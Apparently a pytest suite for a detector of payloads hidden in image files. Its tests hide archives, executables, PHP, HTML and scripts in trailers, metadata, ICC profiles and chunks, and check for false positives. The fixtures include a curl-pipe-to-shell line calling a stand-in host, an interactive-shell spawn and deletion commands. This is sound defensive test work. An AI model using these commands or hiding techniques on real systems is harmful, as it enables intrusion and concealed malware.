from __future__ import annotations

import html
import random
import struct
import zlib
from typing import TYPE_CHECKING

import pytest
from PIL import Image

from corrupt_samples import payloads
from corrupt_samples.encode import avif, chunk, encode, exif, jpeg, jpeg_segment, mpo, png, profile, tiff, webp
from corrupt_samples.payloads import ALL, HTML, MORE, PHP, SCRIPT, pdf, zip_of
from corrupt_samples.pictures import photo
from corrupt_samples.surgery import png_changed
from sanitize.probe import avif_items, beside, image_parts, magics
from tests.embedding import (
    APP1,
    APP2,
    APP13,
    COM,
    XMP,
    canon,
    fotostation,
    photo_mechanic,
    places,
    samsung_trailer,
    with_chunk,
    with_segment,
)  # fmt: skip

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.conftest import Fired

RULE = "embedded-payload"
NAMES = {
    "zip": "a ZIP archive",
    "jar": "a Java archive",
    "apk": "an Android app",
    "office": "an Office document",
    "gzip": "a gzip archive",
    "xz": "an XZ archive",
    "bzip2": "a bzip2 archive",
    "zstd": "a Zstandard archive",
    "7z": "a 7-Zip archive",
    "rar": "a RAR archive",
    "tar": "a tar archive",
    "cab": "a Windows cabinet",
    "ole": "a Windows installer or an old Office document",
    "ar": "a Unix archive",
    "elf": "a Linux program",
    "pe": "a Windows program",
    "mach-o": "a macOS program",
    "java-class": "a Java class",
    "wasm": "a WebAssembly module",
    "dex": "an Android program",
    "shortcut": "a Windows shortcut",
    "pdf": "a PDF",
    "shell": "a script with an interpreter line",
    "batch": "a Windows batch file",
    "php": "PHP code",
    "server-page": "code of a server page",
    "html": "an HTML page",
    "html-script": "a script in HTML",
}


def riff_with(content: bytes, kind: bytes) -> bytes:
    data = webp(photo("a"))
    data += kind + struct.pack("<I", len(content)) + content + bytes(len(content) & 1)
    return data[:4] + struct.pack("<I", len(data) - 8) + data[8:]


def test_the_message_says_what_and_where_and_what_to_do(fired: Fired) -> None:
    picture = jpeg(photo("a"))
    archive = zip_of("a.txt", "b.txt")
    assert fired(RULE, {"a.jpg": picture + archive}) == {
        "a.jpg": (
            "error",
            f"a ZIP archive after the end of the JPEG: {len(archive)} bytes from byte {len(picture)} on, 2 files, the first"
            " `a.txt`; save the picture anew without it, or leave it out",
        )
    }


@pytest.mark.parametrize("before", [b"", bytes(7), b"\r\n"], ids=["at once", "after zeros", "on the next line"])
def test_finds_every_kind_after_the_end(fired: Fired, before: bytes) -> None:
    picture = jpeg(photo("a"))
    files = {f"{kind}.jpg": picture + before + content for kind, content in ALL.items()}
    expected = {f"{kind}.jpg": f"{name} after the end of the JPEG" for kind, name in NAMES.items()}
    assert places(fired(RULE, files)) == expected


def test_finds_it_after_the_end_of_every_format_whose_end_is_known(fired: Fired) -> None:
    picture = photo("a")
    pictures = {
        "a.png": png(picture),
        "a.gif": encode(picture, "GIF"),
        "a.webp": webp(picture),
        "a.bmp": encode(picture, "BMP"),
        "a.tif": tiff(picture),
        "jpeg.tif": tiff(picture, compression="jpeg"),
        "a.avif": avif(picture),
        "a.jp2": encode(picture, "JPEG2000"),
        "a.j2k": encode(picture, "JPEG2000", no_jp2=True),
        "a.ico": encode(picture, "ICO", sizes=[(48, 48)]),
        "a.qoi": encode(picture, "QOI"),
        "a.ppm": encode(picture, "PPM"),
        "a.sgi": encode(picture, "SGI"),
        "progressive.jpg": jpeg(picture, progressive=True),
        "cmyk.jpg": jpeg(picture.convert("CMYK")),
        "restarts.jpg": jpeg(picture, restart_marker_rows=1),
        "mpo.jpg": mpo(picture),
    }
    files = {
        f"{number} {name}": content + hidden
        for name, content in pictures.items()
        for number, hidden in enumerate((ALL["zip"], ALL["elf"], PHP, HTML))
    }
    found = places(fired(RULE, files))
    assert found.keys() == files.keys()
    assert all(" after the end of the " in place for place in found.values())


def test_finds_archives_where_the_end_of_the_image_cannot_be_told(fired: Fired) -> None:
    picture = photo("a")
    files = {
        "a.tga": encode(picture, "TGA") + ALL["zip"],
        "a.dds": encode(picture, "DDS") + ALL["jar"],
        "a.pcx": encode(picture.quantize(64), "PCX") + ALL["office"],
    }
    assert fired(RULE, files).keys() == files.keys()


def test_finds_every_kind_in_the_items_of_an_avif(fired: Fired) -> None:
    files = {}
    for kind, content in ALL.items():
        described = Image.Exif()
        described[0x9286] = b"ASCII\0\0\0" + content
        files |= {
            f"{kind}.xmp.avif": avif(photo("a"), xmp=content),
            f"{kind}.exif.avif": avif(photo("a"), exif=described),
        }
    assert fired(RULE, files).keys() == files.keys()


def test_items_of_an_avif_on_top_of_each_other_are_read_once() -> None:
    def box(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I4s", 8 + len(content), kind) + content

    items, content = 50, b"<x:xmpmeta/>" * 100
    named = b"".join(box(b"infe", b"\2\0\0\0" + struct.pack(">HH", item, 0) + b"mimeXMP\0") for item in range(items))

    def file(place: int) -> bytes:
        placed = b"".join(struct.pack(">HHHII", item, 0, 1, place, len(content)) for item in range(items))
        places = box(b"iloc", bytes(4) + b"\x44\0" + struct.pack(">H", items) + placed)
        meta = box(b"meta", bytes(4) + box(b"iinf", bytes(4) + struct.pack(">H", items) + named) + places)
        return box(b"ftyp", b"avif\0\0\0\0avif") + meta + box(b"mdat", content)

    data = file(len(file(0)) - len(content))
    found = avif_items.find(data)
    assert {(kind, data[start:end]) for kind, start, end in found} == {(b"mime", content)}
    assert sum(end - start for _kind, start, end in found) <= len(data)


@pytest.mark.parametrize("before", [b"\0", b"a note: ", b"\xfe" * 200])
@pytest.mark.parametrize("marker", [COM, APP1, APP13])
def test_finds_a_small_archive_behind_something_else_in_a_short_header(
    marker: int, before: bytes, fired: Fired
) -> None:
    found = fired(RULE, {"a.jpg": with_segment(marker, before + ALL["zip"])})
    assert found.keys() == {"a.jpg"}
    assert "a ZIP archive" in found["a.jpg"][1]


def test_finds_a_tar_without_a_magic_by_the_checksum_of_its_header(fired: Fired) -> None:
    hidden = payloads.old_tar()
    files = {
        "behind.jpg": jpeg(photo("a")) + hidden,
        "padded.jpg": jpeg(photo("a")) + bytes(7) + hidden,
        "comment.jpg": with_segment(COM, hidden),
        "note.jpg": jpeg(photo("a"), exif=exif_value(hidden)),
        "chunk.png": with_chunk(b"prVt", hidden),
        "behind.png": png(photo("a")) + hidden,
    }
    found = fired(RULE, files)
    assert found.keys() == files.keys()
    assert all("a tar archive" in message and "`note.txt`" in message for _severity, message in found.values())


def test_is_silent_about_numbers_where_a_tar_has_its_own(fired: Fired) -> None:
    hidden = payloads.old_tar()
    others = {
        "sum": hidden[:149] + bytes((hidden[149] ^ 1,)) + hidden[150:],
        "name": b"x" + hidden[1:],
        "cut": hidden[:500],
        "digits": b"0000001 " * 200,
        "blanks": b"a" + b" " * 147 + b"17     " + b" " * 900,
        "zeros": b"note.txt".ljust(148, b"\0") + b"000400\0 " + bytes(900),
    }
    files = {f"{name}.jpg": with_segment(COM, content) for name, content in others.items()}
    files |= {f"{name} behind.jpg": jpeg(photo("a")) + content for name, content in others.items()}
    assert fired(RULE, files) == {}


def test_finds_databases_and_lz4_behind_the_end_and_in_comments(fired: Fired) -> None:
    files = {f"{kind}.jpg": jpeg(photo("a")) + content for kind, content in MORE.items()}
    files |= {f"{kind}.png": png(photo("a")) + bytes(7) + content for kind, content in MORE.items()}
    files |= {f"{kind} comment.jpg": with_segment(COM, b"note" + content) for kind, content in MORE.items()}
    assert places(fired(RULE, files)) == {
        "lz4.jpg": "an LZ4 archive after the end of the JPEG",
        "sqlite.jpg": "an SQLite database after the end of the JPEG",
        "lz4.png": "an LZ4 archive after the end of the PNG",
        "sqlite.png": "an SQLite database after the end of the PNG",
        "lz4 comment.jpg": "an LZ4 archive in the comment of the JPEG",
        "sqlite comment.jpg": "an SQLite database in the comment of the JPEG",
    }


def test_is_silent_about_the_magics_of_databases_and_lz4_without_their_headers(fired: Fired) -> None:
    frame, table = MORE["lz4"], MORE["sqlite"]
    others = {
        "checksum": frame[:6] + bytes((frame[6] ^ 1,)) + frame[7:],
        "version": frame[:4] + b"\x24" + frame[5:],
        "frame cut": frame[:9],
        "page size": table[:16] + b"\2\1" + table[18:],
        "fractions": table[:21] + b"\x40\x20\x21" + table[24:],
        "table cut": table[:60],
        "words": b"SQLite format 3 is what a database begins with",
    }
    files = {f"{name}.jpg": jpeg(photo("a")) + content for name, content in others.items()}
    files |= {f"{name} comment.jpg": with_segment(COM, content) for name, content in others.items()}
    assert fired(RULE, files) == {}


@pytest.mark.parametrize("kind", ["zip", "elf", "gzip", "pdf"])
def test_finds_it_in_a_comment_between_and_behind_the_scans(fired: Fired, kind: str) -> None:
    plain, several = jpeg(photo("a")), jpeg(photo("a"), progressive=True)
    comment = jpeg_segment(COM, ALL[kind])
    second = several.index(b"\xff\xda", several.index(b"\xff\xda") + 2)
    between = several.rindex(b"\xff\xc4", 0, second)
    files = {
        "behind.jpg": plain[:-2] + comment + plain[-2:],
        "between.jpg": several[:between] + comment + several[between:],
    }
    found = places(fired(RULE, files))
    assert found.keys() == files.keys()
    assert all(place.endswith(" in the comment of the JPEG") for place in found.values())


@pytest.mark.parametrize(
    ("marker", "name"),
    [
        (0xE0, b""), (0xE0, b"JFXX\0"), (0xE1, b"http://ns.adobe.com/xmp/extension/\0"), (0xE2, b"MPF\0"), (0xE2, b"FPXR\0"),
        (0xEC, b"Ducky"), (0xED, b"Photoshop 3.0\0"), (0xED, b"Adobe_CM\0"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("kind", ["elf", "gzip", "rar"])
def test_the_name_of_what_a_segment_is_for_hides_nothing(fired: Fired, marker: int, name: bytes, kind: str) -> None:
    assert len(fired(RULE, {"a.jpg": with_segment(marker, name + ALL[kind])})) == 1


def test_an_end_marker_behind_it_hides_nothing(fired: Fired) -> None:
    picture = jpeg(photo("a"))
    files = {
        "comment.jpg": picture + zip_of(comment=b"\xff\xd9"),
        "php.jpg": picture + PHP + b"\xff\xd9",
        "second.jpg": picture + ALL["elf"] + jpeg(photo("b")),
        "between.jpg": picture + jpeg(photo("b")) + ALL["zip"] + jpeg(photo("c")),
    }
    assert places(fired(RULE, files)) == {
        "comment.jpg": "a ZIP archive after the end of the JPEG",
        "php.jpg": "PHP code after the end of the JPEG",
        "second.jpg": "a Linux program after the end of the JPEG",
        "between.jpg": "a ZIP archive after the end of the JPEG",
    }


def test_an_archive_that_has_lost_its_directory_is_one_all_the_same(fired: Fired) -> None:
    files = {"a.jpg": jpeg(photo("a")) + zip_of("a.txt", "b.txt")[:100]}
    assert "`a.txt`, without a directory" in fired(RULE, files)["a.jpg"][1]


def test_a_trailer_like_a_camera_s_hides_nothing(fired: Fired) -> None:
    footer = b"SEFH" + bytes(20) + struct.pack("<I", 24) + b"SEFT"
    files = {"zip.jpg": jpeg(photo("a")) + ALL["zip"] + footer, "php.jpg": jpeg(photo("a")) + PHP + footer}
    assert fired(RULE, files).keys() == files.keys()


_TRAILERS: dict[str, Callable[[bytes], bytes]] = {
    "samsung": samsung_trailer,
    "nikon": lambda value: value + bytes(6) + b"/NIKON APP",
    "mechanic": photo_mechanic,
    "fotostation": fotostation,
    "canon": canon,
}


@pytest.mark.parametrize("vendor", _TRAILERS)
def test_a_trailer_like_a_camera_s_hides_nothing_behind_its_beginning(fired: Fired, vendor: str) -> None:
    notes = random.Random(vendor).randbytes(16)
    # Cameras may compress their own notes; scripts and Zstandard say too little to be looked for anywhere.
    kinds = ALL.keys() - {"gzip", "xz", "bzip2", "zstd", "shell", "batch"}
    files = {f"{kind}.jpg": jpeg(photo("a")) + _TRAILERS[vendor](notes + ALL[kind]) for kind in kinds}
    expected = {f"{kind}.jpg": f"{NAMES[kind]} after the end of the JPEG" for kind in kinds}
    assert places(fired(RULE, files)) == expected


@pytest.mark.parametrize("vendor", _TRAILERS)
def test_is_silent_about_what_a_camera_compresses_in_its_trailer(fired: Fired, vendor: str) -> None:
    notes = random.Random(vendor).randbytes(16)
    packed = (
        {kind: ALL[kind] for kind in ("gzip", "xz", "bzip2")}
        | {"lz4": MORE["lz4"]}
        | {"noise": littered(vendor, 60_000)}
    )
    files = {f"{kind}.jpg": jpeg(photo("a")) + _TRAILERS[vendor](notes + content) for kind, content in packed.items()}
    assert fired(RULE, files) == {}


@pytest.mark.parametrize("kind", ALL)
def test_finds_every_kind_in_the_header_of_a_jpeg_behind_the_image(fired: Fired, kind: str) -> None:
    picture, second = jpeg(photo("a")), with_segment(COM, ALL[kind], "b")
    index = second.index(b"\xff\xdb")
    files = {
        "second.jpg": picture + second,
        "third.jpg": picture + jpeg(photo("c")) + second,
        "padded.jpg": picture + bytes(9) + second + bytes(9),
        "mpf.jpg": mpo(photo("a")) + second,
        "cut.jpg": picture + second[:index],
    }
    found = places(fired(RULE, files))
    assert found == dict.fromkeys(files, f"{NAMES[kind]} after the end of the JPEG")


def test_finds_it_elsewhere_in_a_jpeg_behind_the_image(fired: Fired) -> None:
    picture, second = jpeg(photo("a")), jpeg(photo("b"))
    listed = with_segment(APP1, XMP + b'<x:xmpmeta><a Item:Semantic="GainMap"/></x:xmpmeta>')
    files = {
        "segment.jpg": picture + with_segment(0xE5, b"note: " + ALL["elf"], "b"),
        "exif.jpg": picture + jpeg(photo("b"), exif=exif_value(ALL["shell"])),
        "profile.jpg": picture + with_segment(APP2, b"ICC_PROFILE\0\1\1" + ALL["rar"], "b"),
        "behind.jpg": picture + second[:-2] + jpeg_segment(COM, ALL["shell"]) + second[-2:],
        "listed.jpg": listed + with_segment(COM, ALL["shell"], "b"),
    }
    found = places(fired(RULE, files))
    assert found.keys() == files.keys()
    assert all(place.endswith(" after the end of the JPEG") for place in found.values())


def test_is_silent_about_the_metadata_of_a_preview_behind_the_image(fired: Fired) -> None:
    picture, noise = jpeg(photo("a")), littered("preview", 60_000)
    previews = {
        "exif.jpg": jpeg(photo("b"), exif=exif_value(noise[:30_000]), comment=b"AppleMark\n"),
        "xmp.jpg": with_segment(APP1, XMP + b"<x:xmpmeta><rdf:RDF>a preview</rdf:RDF></x:xmpmeta>", "b"),
        "icc.jpg": jpeg(photo("b"), icc_profile=profile("a")),
        "raw-icc.jpg": with_segment(APP2, b"ICC_PROFILE\0\1\1" + noise, "b"),
        "mpf.jpg": mpo(photo("b")),
        "app7.jpg": with_segment(0xE7, b"HUAWEI\0\0" + noise, "b"),
    }
    assert fired(RULE, {name: picture + preview for name, preview in previews.items()}) == {}


def test_finds_an_archive_that_is_an_icc_profile(fired: Fired) -> None:
    hidden = zip_of("a.txt", comment=b"the rest of the picture")
    files = {"a.jpg": with_segment(APP2, b"ICC_PROFILE\0\1\1" + bytes(1024) + hidden)}
    assert places(fired(RULE, files)) == {"a.jpg": "a ZIP archive in the ICC profile of the JPEG"}


def exif_value(content: bytes, tag: int = 0x927C) -> bytes:
    """EXIF data that hold something in a value of bytes: a maker note unless another tag is named."""
    data = Image.Exif()
    data[0x8769] = {tag: content}
    return data.tobytes()


@pytest.mark.parametrize("kind", [kind for kind in ALL if kind not in ("php", "server-page", "html", "html-script")])
def test_finds_archives_and_programs_in_metadata_of_every_format(fired: Fired, kind: str) -> None:
    hidden, picture = ALL[kind], photo("a", 64, 64)
    tag = {65_000: hidden}
    files = {
        "note.jpg": jpeg(picture, exif=exif_value(hidden)),
        "remark.jpg": jpeg(picture, exif=exif_value(b"ASCII\0\0\0" + hidden, 0x9286)),
        "profile.jpg": with_segment(APP2, b"ICC_PROFILE\0\1\1" + hidden),
        "note.png": png(picture, exif=exif_value(hidden)),
        "note.webp": webp(picture, exif=exif_value(hidden)),
        "tag.tif": tiff(picture, tiffinfo=tag),
        "tag-of-a-large.tif": tiff(photo("a", 320, 240), tiffinfo=tag),
        "gap.bmp": with_gap(encode(picture, "BMP"), hidden),
    }
    if kind not in ("shell", "batch", "zstd"):  # which say too little to be looked for anywhere
        files["profile.png"] = with_chunk(b"iCCP", b"name\0\0" + zlib.compress(bytes(140) + hidden))
        files["xmp.jpg"] = with_segment(APP1, XMP + b"<x:xmpmeta>" + hidden + bytes(1))
        files["xmp.png"] = with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>" + hidden + bytes(1))
    found = fired(RULE, files)
    assert {path: message.partition(" in the ")[0] for path, (_severity, message) in found.items()} == dict.fromkeys(
        files, NAMES[kind]
    )


@pytest.mark.parametrize("form", ["escaped", "raw", "section", "attribute"])
def test_finds_scripts_in_properties_of_xmp_and_no_words_about_them(fired: Fired, form: str) -> None:
    scripts = {
        "sh": "#!/bin/sh\ncurl -s http://a.example/x.sh | sh\n",
        "py": "import os, socket\nos.system('/bin/sh -i')\n",
        "bat": "@echo off\r\ndel /q C:\\x\r\n",
        "indented": "\n    import os, socket\n    os.system('/bin/sh -i')\n",
    }
    words = {
        "caption": "A slide that says import os and then os.system('ls') in red.",
        "prompt": "masterpiece, (best quality:1.2)\nNegative prompt: blurry\nSteps: 20, Sampler: Euler",
        "history": '[{"action": "import os; os.system(1)"}]',
        "number": f"a number\n&#{'1' * 5000};",
    }

    def packet(value: str) -> bytes:
        text = html.escape(value) if form in ("escaped", "attribute") else value
        text = f"<![CDATA[{text}]]>" if form == "section" else text
        held = f'dc:title="{text}"/>' if form == "attribute" else f"><dc:title>{text}</dc:title></rdf:Description>"
        return f'<x:xmpmeta><rdf:RDF><rdf:Description rdf:about="" {held}</rdf:RDF></x:xmpmeta>'.encode()

    files = {}
    for name, value in (scripts | words).items():
        files |= {
            f"{name}.jpg": with_segment(APP1, XMP + packet(value)),
            f"{name}.png": with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet(value)),
            f"{name}.webp": webp(photo("a", 64, 64), xmp=packet(value)),
            f"{name}.tif": tiff(photo("a", 64, 64), tiffinfo={700: packet(value)}),
            f"{name}.avif": avif(photo("a", 64, 64), xmp=packet(value)),
        }
    assert set(fired(RULE, files)) == {path for path in files if path.partition(".")[0] in scripts}


@pytest.mark.parametrize("before", [b"\0", b"\n", b"payload: ", random.Random(0).randbytes(64)])
def test_finds_archives_and_programs_behind_something_else_where_anything_may_stand(
    fired: Fired, before: bytes
) -> None:
    # A script says too little to be looked for anywhere.
    kinds = [
        kind for kind in ALL if kind not in ("shell", "batch", "zstd", "php", "server-page", "html", "html-script")
    ]
    files = {}
    for kind in kinds:
        hidden = before + ALL[kind]
        files |= {
            f"{kind}-comment.jpg": with_segment(COM, hidden),
            f"{kind}-segment.jpg": with_segment(0xE5, hidden),
            f"{kind}-chunk.png": with_chunk(b"prVt", hidden),
            f"{kind}-chunk.webp": riff_with(hidden, b"NOTE"),
        }
    found = fired(RULE, files)
    assert {path: message.partition(" in the ")[0] for path, (_severity, message) in found.items()} == {
        path: NAMES[path.rpartition("-")[0]] for path in files
    }


@pytest.mark.parametrize("kind", ALL)
def test_finds_every_kind_in_place_of_what_a_part_is_for(fired: Fired, kind: str) -> None:
    hidden = ALL[kind]
    files = {
        "key.png": with_chunk(b"tEXt", hidden),
        "exif.jpg": with_segment(APP1, b"Exif\0\0" + hidden),
        "exif.png": with_chunk(b"eXIf", hidden),
    }
    if kind not in ("shell", "batch", "zstd"):  # which say too little to be looked for anywhere
        files["other.jpg"] = with_segment(0xE5, b"JP" + hidden)
    assert fired(RULE, files).keys() == files.keys()


def with_gap(bmp: bytes, content: bytes) -> bytes:
    """A BMP whose pixels begin later, behind something else."""
    (pixels,) = struct.unpack_from("<I", bmp, 10)
    return bmp[:10] + struct.pack("<I", pixels + len(content)) + bmp[14:pixels] + content + bmp[pixels:]


def test_finds_an_archive_in_a_value_of_a_profile(fired: Fired) -> None:
    whole = bytearray(profile("a"))
    hidden = zip_of("a.txt")
    whole[136:144] = struct.pack(">II", len(whole), 8 + len(hidden))
    files = {"a.jpg": with_segment(APP2, b"ICC_PROFILE\0\1\1" + bytes(whole) + b"data\0\0\0\0" + hidden)}
    assert places(fired(RULE, files)) == {"a.jpg": "a ZIP archive in the ICC profile of the JPEG"}


def test_finds_an_archive_between_and_behind_the_values_of_a_profile_whose_size_covers_it(fired: Fired) -> None:
    hidden = zip_of("a.txt")
    behind = profile("a") + hidden
    behind = struct.pack(">I", len(behind)) + behind[4:]
    first = 132 + 12 * int.from_bytes(behind[128:132], "big")
    table = b"".join(
        name + struct.pack(">II", place + len(hidden), size)
        for name, place, size in struct.iter_unpack(">4sII", behind[132:first])
    )
    between = behind[:132] + table + hidden + behind[first : -len(hidden)]
    # A value that reaches beyond the end covers nothing.
    beyond = behind[: first - 8] + struct.pack(">II", len(behind) - len(hidden), 1 << 31) + behind[first:]
    # Nor does one that reaches beyond the size that is told, to the end of what was appended.
    length = int.from_bytes(behind[first - 4 : first], "big")
    shell = b"#!/bin/sh\necho hello\nrm -rf /tmp/hello\n"
    told = profile("a")[: first - 4] + struct.pack(">I", length + len(shell)) + profile("a")[first:] + shell
    profiles = {"behind": behind, "between": between, "beyond": beyond, "sound": profile("a"), "told": told}
    files = {f"{name}.png": png(photo(name), icc_profile=content) for name, content in profiles.items()}
    zipped = dict.fromkeys(["behind.png", "between.png", "beyond.png"], "a ZIP archive in the chunk iCCP of the PNG")
    assert places(fired(RULE, files)) == zipped | {
        "told.png": "a script with an interpreter line in the chunk iCCP of the PNG"
    }


@pytest.mark.parametrize("first", [10, 11, 12])
def test_finds_an_archive_in_a_comment_of_a_gif_whatever_the_length_of_its_first_piece(
    fired: Fired, first: int
) -> None:
    hidden = ALL["7z"]
    pieces = [hidden[:first], *(hidden[at : at + 255] for at in range(first, len(hidden), 255))]
    comment = b"\x21\xfe" + b"".join(bytes((len(piece),)) + piece for piece in pieces) + b"\0"
    assert places(fired(RULE, {"a.gif": encode(photo("a"), "GIF")[:-1] + comment + b";"})) == {
        "a.gif": "a 7-Zip archive in the comment of the GIF"
    }


@pytest.mark.parametrize("kind", ALL)
def test_finds_every_kind_in_extensions_of_a_gif_which_are_cut_to_pieces(fired: Fired, kind: str) -> None:
    def extension(label: int, content: bytes, name: bytes = b"") -> bytes:
        pieces = [name, *(content[at : at + 255] for at in range(0, len(content), 255))]
        return bytes((0x21, label)) + b"".join(bytes((len(piece),)) + piece for piece in pieces if piece) + b"\0"

    animation = encode(photo("a"), "GIF")
    content = random.Random(kind).randbytes(3) * 100 + ALL[kind] if kind in ("zip", "tar") else ALL[kind]
    files = {
        "comment.gif": animation[:-1] + extension(0xFE, content) + b";",
        "application.gif": animation[:-1] + extension(0xFF, content, b"ANYTHING1.0") + b";",
    }
    assert {file: said.partition(" in the ")[2] for file, said in places(fired(RULE, files)).items()} == {
        "comment.gif": "comment of the GIF",
        "application.gif": "application extension of the GIF",
    }


def test_what_was_made_to_be_read_for_long_is_read_once(fired: Fired) -> None:
    packed = chunk(b"zTXt", b"a\0\0" + zlib.compress(b"<script>" * (1 << 17), 9))
    picture = png(photo("a"))
    overlaid = b"".join(struct.pack("<HHII", 60_000 + number, 7, 300_000, 8) for number in range(1000))
    overlapping = (
        b"II*\0" + struct.pack("<I", 300_008) + b"<?php " * 50_000 + struct.pack("<H", 1000) + overlaid + bytes(4)
    )
    assert beside.look(overlapping, "tiff").payload is None
    files = {
        "packed.png": picture[:33] + packed * 20 + picture[33:],
        "openings.jpg": jpeg(photo("b")) + b"<script>" * 500_000,
        "entries.jpg": jpeg(photo("c")) + b"PK\3\4\xff\xff" * 4_100 + (b"PK\5\6" + bytes(18)) * 4_100,
        "documents.jpg": jpeg(photo("d")) + b"%PDF-1.4 " * 4_100 + random.Random(0).randbytes(4 << 20) + b"endobj",
        "packets.jpg": jpeg(photo("e")) + b"a <rdf:RDF>" + (b"<iframe src=x>" + b"a" * 498) * 4_100 + b"</rdf:RDF>",
        "keys.png": picture[:33] + chunk(b"tEXt", b"a" * 90) * 8_000 + picture[33:],
    }
    assert fired(RULE, files) == {}


def test_parts_without_room_for_anything_are_passed_over(monkeypatch: pytest.MonkeyPatch) -> None:
    searched: list[int] = []
    monkeypatch.setattr(magics, "search", lambda _data, start, end, **_options: searched.append(end - start))
    picture, drawing = jpeg(photo("a")), png(photo("a"))
    comments = b"".join(jpeg_segment(COM, bytes(length)) for length in (0, 7, 8, 0))
    assert beside.look(picture[:2] + comments + picture[2:], "jpeg").payload is None
    assert searched == [8]
    chunks = chunk(b"prVt", b"") * 3 + chunk(b"prVt", b"a")
    found = image_parts.find(drawing[:33] + chunks + drawing[33:], "png")
    assert [end - start for name, start, end in found if name == "chunk prVt"] == [1]


def test_finds_the_shortest_code_in_parts_that_are_too_short_for_anything_else(fired: Fired) -> None:
    files = {
        "comment.jpg": with_segment(COM, b"<?=$a?>"),
        "chunk.png": with_chunk(b"prVt", b"<?=$a?>"),
        "batch.jpg": with_segment(COM, b"@echo off"),
    }
    assert places(fired(RULE, files)) == {
        "comment.jpg": "PHP code in the comment of the JPEG",
        "chunk.png": "PHP code in the chunk prVt of the PNG",
        "batch.jpg": "a Windows batch file in the comment of the JPEG",
    }


def test_finds_an_archive_behind_the_packed_pixels_of_a_png(fired: Fired) -> None:
    hidden = png_changed(png(Image.new("L", (64, 64), 9)), b"IDAT", lambda content: content + ALL["zip"])
    assert places(fired(RULE, {"a.png": hidden})) == {"a.png": "a ZIP archive in the chunk IDAT of the PNG"}


def test_finds_code_in_other_formats(fired: Fired) -> None:
    picture = photo("a")
    box = struct.pack(">I4s", 8 + len(PHP), b"free") + PHP
    bitmap = encode(picture, "BMP")
    gap = struct.pack("<I", 54 + len(HTML))
    files = {
        "comment.gif": encode(picture, "GIF", comment=PHP),
        "chunk.webp": riff_with(ALL["zip"], b"HIDE"),
        "code.webp": riff_with(PHP, b"HIDE"),
        "free.avif": avif(picture) + box,
        "free.jp2": encode(picture, "JPEG2000") + box,
        "gap.bmp": bitmap[:10] + gap + bitmap[14:54] + HTML + bitmap[54:],
        "description.tif": tiff(picture, description=SCRIPT.decode()),
        "comment.ppm": b"P6\n# " + HTML + b"\n96 96\n255\n" + picture.tobytes(),
    }
    assert places(fired(RULE, files)) == {
        "comment.gif": "PHP code in the comment of the GIF",
        "chunk.webp": "a ZIP archive in the chunk HIDE of the WebP",
        "code.webp": "PHP code in the chunk HIDE of the WebP",
        "free.avif": "PHP code in the box free of the AVIF",
        "free.jp2": "PHP code in the box free of the JPEG 2000",
        "gap.bmp": "an HTML page in the gap before the pixels of the BMP",
        "description.tif": "a script in HTML in the tags of the TIFF",
        "comment.ppm": "an HTML page in the header of the Netpbm picture",
    }


def test_finds_images_that_are_documents_and_archives_too(fired: Fired) -> None:
    picture = jpeg(photo("a"))
    document = pdf()
    header, rest = document[:40], document[40:]
    as_tar = payloads.tar_with_name(b"\xff\xd8\xff\xfe\x01\xfc")[:512] + picture[2:]
    disc = (picture + bytes(0x8000))[:0x8000] + payloads.iso_descriptor()
    files = {
        "whole.jpg": jpeg(photo("a"), comment=document),
        "apart.jpg": jpeg(photo("a"), comment=header) + rest,
        "tar.jpg": as_tar,
        "disc.jpg": disc,
        "jar.gif": encode(photo("a"), "GIF") + ALL["jar"],
    }
    assert places(fired(RULE, files)) == {
        "whole.jpg": "a PDF in the comment of the JPEG",
        "apart.jpg": "a PDF in the comment of the JPEG",
        "tar.jpg": "a tar archive that is a JPEG, too",
        "disc.jpg": "a CD image that is a JPEG, too",
        "jar.gif": "a Java archive after the end of the GIF",
    }


MAGICS = (
    b"PK\3\4", b"PK\5\6", b"PK\1\2", b"MZ", b"#!", b"#!/", b"\x7fELF", b"\x1f\x8b\x08", b"Rar!\x1a\x07", b"BZh9", b"%PDF-",
    b"\xca\xfe\xba\xbe", b"\xfe\xed\xfa\xcf", b"\0asm", b"ustar", b"MSCF", b"<?", b"<%", b"<?=", b"\xfd7zXZ\0",
    b"7z\xbc\xaf\x27\x1c", b"CD001", b"\x28\xb5\x2f\xfd", b"*/", b"/*", b"!<arch>\n", b"\x04\x22\x4d\x18", b"SQLite format 3\0",
)  # fmt: skip


def littered(seed: str, size: int) -> bytes:
    """Random bytes in which every magic stands several times."""
    chance = random.Random(seed)
    data = bytearray(chance.randbytes(size))
    for magic in MAGICS * 8:
        at = chance.randrange(size - 16)
        data[at : at + len(magic)] = magic
    return bytes(data)


def test_is_silent_about_magics_in_data_that_may_hold_any_bytes(fired: Fired) -> None:
    noise = littered("noise", 60_000)
    files = {
        "exif.jpg": with_segment(APP1, exif(1) + noise),
        "icc.jpg": with_segment(APP2, b"ICC_PROFILE\0\1\1" + noise),
        "photoshop.jpg": with_segment(APP13, b"Photoshop 3.0\x008BIM\4\4\0\0" + struct.pack(">I", len(noise)) + noise),
        "fpxr.jpg": with_segment(APP2, b"FPXR\0\0" + noise),
        "c2pa.jpg": with_segment(0xEB, b"JP\0\1" + noise),
        "thermal.jpg": with_segment(0xE3, noise),
        "app7.jpg": with_segment(0xE7, b"HUAWEI\0\0" + noise),
        "private.png": with_chunk(b"prVW", noise),
        "raw.ppm": b"P6\n100 200\n255\n" + noise,
        "private.webp": riff_with(noise, b"NOTE"),
    }
    assert fired(RULE, files) == {}


def test_is_silent_about_bytes_after_the_end_without_structure(fired: Fired) -> None:
    picture = jpeg(photo("a"))
    files = {f"{number}.jpg": picture + littered(str(number), 60_000) for number in range(20)}
    for magic in MAGICS:
        files[f"{magic.hex()}.jpg"] = picture + magic + bytes(range(40, 90)) * 20
    assert fired(RULE, files) == {}


def test_is_silent_about_what_cameras_append(fired: Fired) -> None:
    picture = jpeg(photo("a"))
    video = (
        struct.pack(">I4s4sI", 16, b"ftyp", b"mp42", 0) + struct.pack(">I4s", 60_008, b"mdat") + littered("v", 60_000)
    )
    files = {
        "mpo.jpg": mpo(photo("a")),
        "two.jpg": picture + jpeg(photo("b"), exif=exif(6), comment=b"second"),
        "video.jpg": picture + video,
        "samsung.jpg": picture + video + b"SEFH" + bytes(20) + struct.pack("<I", 24) + b"SEFT",
        "text.jpg": picture + b"taken in May, < 10 km from home; see https://example.org/",
